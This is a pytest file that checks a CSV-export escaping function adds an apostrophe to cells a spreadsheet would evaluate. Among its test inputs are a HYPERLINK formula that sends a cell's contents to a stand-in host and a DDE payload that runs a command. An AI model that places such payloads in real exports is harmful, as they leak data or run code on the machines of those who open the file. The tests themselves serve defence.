"""The exported file of balances."""

import pytest

from server.domain.progress.balances_csv import escape_formula


@pytest.mark.spec("4.10")
@pytest.mark.parametrize(
    "text",
    [
        "=",
        '=HYPERLINK("http://evil.test?x="&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "\n1",
        "\u200b=1+1",
        "\ufeff\u00a0@SUM(A1)",
        " \x1f=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
    ],
)
def test_a_text_that_a_spreadsheet_would_evaluate_gets_an_apostrophe(text: str) -> None:
    assert escape_formula(text) == f"'{text}"


@pytest.mark.parametrize("cell", ["Amara", "4-b", "a=b", "O'Neill", "(=1)", "דנה\u200f", "\ufeffName", "", -3, 0, 25])
def test_other_texts_and_numbers_stay_as_they_are(cell: str | int) -> None:
    assert escape_formula(cell) == cell
